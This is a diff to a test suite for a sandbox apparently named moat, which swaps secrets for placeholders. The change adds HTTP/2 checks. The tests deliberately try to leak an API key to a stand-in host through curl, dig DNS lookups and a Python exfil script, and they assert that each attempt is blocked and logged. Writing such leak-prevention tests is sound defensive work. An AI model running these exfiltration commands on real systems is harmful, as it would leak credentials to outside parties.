@@ -49,7 +49,7 @@ function run(script: string, extra: string[] = []) {
   return world.moat(["run", "--dns-nameserver", WORLD_IP4, "--tls-upstream-ca", `${dir}/ca.pem`, "--secret", "API_KEY=REAL_KEY@allowed.test", ...extra, "--", "sh", "-c", script], 60000);
 }
 
-function records(): { url: string; headers: Record<string, string>; body: string }[] {
+function records(): { url: string; version: string; headers: Record<string, string>; body: string }[] {
   return existsSync(record) ? readFileSync(record, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l)) : [];
 }
 
@@ -77,7 +77,8 @@ print(urllib.request.urlopen(req).status)`);
   const by = (url: string) => seen.find((x) => x.url === url)?.headers;
   assert.equal(by("/curl-header")?.authorization, `Bearer ${VALUE}`);
   assert.equal(Buffer.from(by("/curl-basic")!.authorization!.replace(/^Basic /, ""), "base64").toString(), `me:${VALUE}`);
-  assert.equal(by("/curl-h2")?.["x-key"], VALUE, "an HTTP/2 client is served over HTTP/1.1 and substituted");
+  assert.equal(by("/curl-h2")?.["x-key"], VALUE, "substituted in an HTTP/2 header block (HPACK)");
+  assert.equal(seen.find((x) => x.url === "/curl-h2")?.version, "2.0", "over HTTP/2");
   assert.equal(by("/py")?.["x-api-key"], VALUE);
   assert.equal(by("/node")?.authorization, `Bearer ${VALUE}`);
   assert.doesNotMatch(JSON.stringify(seen), /moat-ph-/, "no placeholder reached the server");
@@ -108,20 +109,21 @@ r = req('other.test', '/split', 'X-K: %s\\r\\n' % k); i = r.index(k) + 10
 raw('other.test', [r[:i], r[i:]])
 raw('allowed.test', [req('other.test', '/host-mismatch', 'X-K: %s\\r\\n' % k)])
 `);
-  const r = await run(`python3 ${dir}/exfil.py; dig +short $API_KEY.allowed.test; curl -sS --resolve allowed.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://allowed.test/no-dns-lookup; echo`,
+  const r = await run(`python3 ${dir}/exfil.py; dig +short $API_KEY.allowed.test; curl -sS --resolve allowed.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://allowed.test/no-dns-lookup; echo; curl -sS --http2 -w ' %{http_version}' --resolve other.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://other.test/h2-leak; echo`,
     ["--secret-violation", "block-and-log", "--audit-log", audit]);
   assert.equal(r.code, 0, r.stderr);
   const lines = r.stdout.trim().split("\n");
   const blocked = lines.filter((l) => /403 Forbidden|ConnectionResetError|b''/.test(l)).length;
   assert.equal(blocked, 8, `every attempt was stopped:\n${r.stdout}`);
+  assert.match(r.stdout, /moat: blocked: the placeholder of secret API_KEY \(raw\) in header x-k to other\.test; it may be sent only to allowed\.test\n 2\n/, "an HTTP/2 client gets its 403 over HTTP/2");
   const seen = seenSince(from);
   assert.doesNotMatch(seen, new RegExp(VALUE), `the value reached the server:\n${seen}`);
   assert.doesNotMatch(seen, /moat-ph-/, `a placeholder reached the server:\n${seen}`);
-  assert.doesNotMatch(seen, /"url":"\/(hdr|q|body|b64|pct|json|split|host-mismatch)/, `a blocked request reached the server:\n${seen}`);
+  assert.doesNotMatch(seen, /"url":"\/(hdr|q|body|b64|pct|json|split|host-mismatch|h2-leak)/, `a blocked request reached the server:\n${seen}`);
   const events = existsSync(audit) ? readFileSync(audit, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l) as { kind: string; name: string; detail: string; repeated?: number }) : [];
   const v = events.filter((e) => e.kind === "secret-violation");
   // (Repeats of one event are written once more as a summary with their count.)
-  assert.equal(v.reduce((n, e) => n + (e.repeated ?? 1), 0), 10, `audit: ${JSON.stringify(events)}`);
+  assert.equal(v.reduce((n, e) => n + (e.repeated ?? 1), 0), 11, `audit: ${JSON.stringify(events)}`);
   assert.ok(v.every((e) => e.name === "API_KEY"));
   for (const form of ["raw", "base64", "percent-encoded", "JSON-escaped"]) assert.ok(v.some((e) => e.detail.startsWith(form)), `a ${form} violation`);
   assert.ok(v.some((e) => /query name/.test(e.detail)), "the DNS name");
